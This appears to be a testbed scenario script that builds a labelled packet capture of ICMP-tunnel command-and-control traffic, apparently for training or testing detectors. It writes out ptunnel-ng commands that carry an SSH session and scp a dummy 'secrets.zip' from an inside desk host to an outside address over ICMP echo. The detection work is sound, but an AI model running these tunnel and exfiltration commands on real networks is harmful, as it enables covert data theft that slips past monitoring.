# desk-2, 10.50.0.102, carries an ssh session and a file through echo messages to 203.0.113.90 with
# ptunnel-ng.
topology=branch
file=branch-icmp-tunnel.pcap.gz
class=c2
family=ptunnel-ng
rule=HOST:203.0.113.90:c2
tools=(ptunnel-ng:ptunnel-ng)

play() {
  both_sites 120
  sleep 20
  inside echo sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  launch echo ptunnel-ng >"$work/ptunnel-far.log" 2>&1
  launch desk-2 ptunnel-ng -p203.0.113.90 -l2222 -r203.0.113.90 -R22 >"$work/ptunnel-near.log" 2>&1
  sleep 3
  inside desk-2 ssh "${ssh_options[@]}" -p 2222 deploy@127.0.0.1 'uptime; ls -l /usr/share | head -60; df' >/dev/null </dev/null || true
  head -c 60000 /dev/urandom >"$work/secrets.zip"
  inside desk-2 timeout 40 scp -q "${ssh_options[@]}" -P 2222 "$work/secrets.zip" deploy@127.0.0.1:secrets.zip ||
    echo "testbed: ptunnel-ng carried no file, see the capture" >&2
  sleep 20
}
